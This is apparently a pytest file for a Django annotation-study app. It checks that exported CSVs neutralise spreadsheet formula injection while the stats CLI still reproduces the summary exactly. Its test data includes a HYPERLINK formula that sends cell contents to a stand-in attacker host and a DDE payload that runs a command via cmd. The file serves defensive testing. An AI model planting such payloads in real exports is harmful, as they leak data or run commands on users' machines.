"""CSV formula injection (issue 13, item 5): the exported CSVs carry no cell a spreadsheet would
run, and the stats CLI still reproduces summary.json exactly from votes.csv + settings.json, with
formula prompts, pseudonyms starting with '-' and a staff exclusion whose reason is a formula."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.db import connection

from studyapp import stats
from studyapp.models import Annotator, AnnotatorExclusion, Prompt
from studyapp.stats import csvsafe

from .test_exports import _stats_cli
from .test_results_rows import add_votes, open_round

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "'already quoted", "\tTAB first"]


@pytest.mark.parametrize(
    "value",
    FORMULAS + ["=1+1\r", "-0.25", "+3", "-1e5", "plain", "", "'", "''", "-", "-abc_DEF", "=", "\r", "1-2"],
)
def test_escape_is_undone_exactly_and_leaves_nothing_runnable(value):
    cell = csvsafe.escape(value)
    assert csvsafe.unescape(cell) == value
    assert list(csvsafe.unescape_column([cell, "x"])) == [value, "x"]
    runnable = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    assert not runnable or csvsafe._is_number(cell), cell


def test_export_with_formula_prompts_reproduces_the_summary(tmp_path, round_config, django_user_model):
    rnd = open_round({**round_config, "round_seed": 3})
    prompts = list(Prompt.objects.filter(items__round=rnd).distinct().order_by("pk"))
    for p, formula in zip(prompts, FORMULAS):
        p.text, p.category = formula, "@cat"
        p.save(update_fields=["text", "category"])
    add_votes(rnd, n_annotators=4)
    # Pseudonyms are URL-safe tokens and may start with '-'; give these annotators such names (the
    # record's trigger refuses renaming, so it is lifted inside this test's transaction only).
    with connection.cursor() as cur:
        cur.execute("SET CONSTRAINTS ALL IMMEDIATE")
        cur.execute("ALTER TABLE studyapp_annotator DISABLE TRIGGER studyapp_annotator_identity_fixed")
        for ann, name in zip(Annotator.objects.filter(round=rnd).order_by("pk"), ["-Ab3", "=x", "@y", "+1"]):
            cur.execute("UPDATE studyapp_annotator SET pseudonym = %s WHERE id = %s", [name, ann.pk])
        cur.execute("ALTER TABLE studyapp_annotator ENABLE TRIGGER studyapp_annotator_identity_fixed")
    staff = django_user_model.objects.create_user("res", is_staff=True)
    AnnotatorExclusion.objects.create(annotator=Annotator.objects.get(pseudonym="=x"), reason="=HYPERLINK(\"x\")",
                                      excluded_by=staff, excluded_by_name="res")

    out = tmp_path / "export"
    call_command("export_stats", str(rnd.pk), "--out", str(out))
    for name in ("votes.csv", "summary.csv"):
        for row in csv.reader(io.StringIO((out / name).read_text())):
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r") or csvsafe._is_number(cell), (name, cell)
                assert not cell.startswith("-") or csvsafe._is_number(cell), (name, cell)

    proc = _stats_cli(str(out / "votes.csv"), "--settings", str(out / "settings.json"))
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == (out / "summary.json").read_text()  # byte for byte

    table = stats.read_votes_csv(out / "votes.csv")
    assert set(FORMULAS) <= set(table["prompt"])  # the original texts, unescaped
    assert set(table["annotator"]) == {"-Ab3", "=x", "@y", "+1"}
    summary = json.loads((out / "summary.json").read_text())
    assert {"annotator": "=x", "reasons": ['staff: =HYPERLINK("x")']} in summary["exclusions"]["excluded_annotators"]
    assert json.loads((out / "settings.json").read_text())["staff_exclusions"] == {"=x": '=HYPERLINK("x")'}
